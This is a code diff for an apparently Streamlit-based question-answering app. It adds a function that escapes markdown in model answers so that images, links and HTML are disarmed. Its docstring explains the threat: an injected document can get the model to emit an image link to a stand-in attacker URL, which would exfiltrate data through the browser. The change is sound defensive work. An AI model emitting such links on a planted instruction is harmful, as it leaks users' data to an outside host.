@@ -22,6 +22,16 @@ def badge(answer: Answer) -> str:
     return f":{colour}-badge[{label}] :gray-badge[{latency}{cached}]"
 
 
+_MARKUP = str.maketrans({c: "\\" + c for c in "\\![]()<>"})
+
+
+def inert(text: str) -> str:
+    """Answer text for st.markdown with images, links, autolinks and HTML disarmed: a document can tell
+    the model to write ``![](https://attacker/?q=…)``, which a browser would fetch. Escaping is per
+    character, so it is safe on streamed tokens too; ``[1]`` still shows as ``[1]``."""
+    return text.translate(_MARKUP)
+
+
 def highlighted(text: str, start: int, end: int) -> str:
     """HTML with text[start:end] marked; everything escaped (documents are data, never markup)."""
     start, end = max(0, start), min(len(text), end)
@@ -45,7 +55,7 @@ def source_card(citation: Citation, kb_name: str, settings: Settings) -> None:
 
 def render_answer(answer: Answer, kb_name: str, settings: Settings, show_text: bool = True) -> None:
     if show_text:
-        st.markdown(answer.text)
+        st.markdown(inert(answer.text))
     st.markdown(badge(answer))
     if answer.flags.get("llm_error"):
         st.warning(t("llm_failed", reason=answer.flags["llm_error"]))
